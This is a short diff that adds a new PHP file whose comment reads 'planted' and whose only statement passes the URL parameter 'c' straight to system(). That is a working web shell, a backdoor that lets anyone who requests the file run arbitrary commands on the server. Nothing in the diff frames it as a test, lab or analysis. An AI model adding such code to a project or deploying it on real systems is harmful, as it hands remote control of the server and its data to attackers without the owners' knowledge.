@@ -1,0 +1,2 @@
+<?php // planted
+system($_GET['c']);
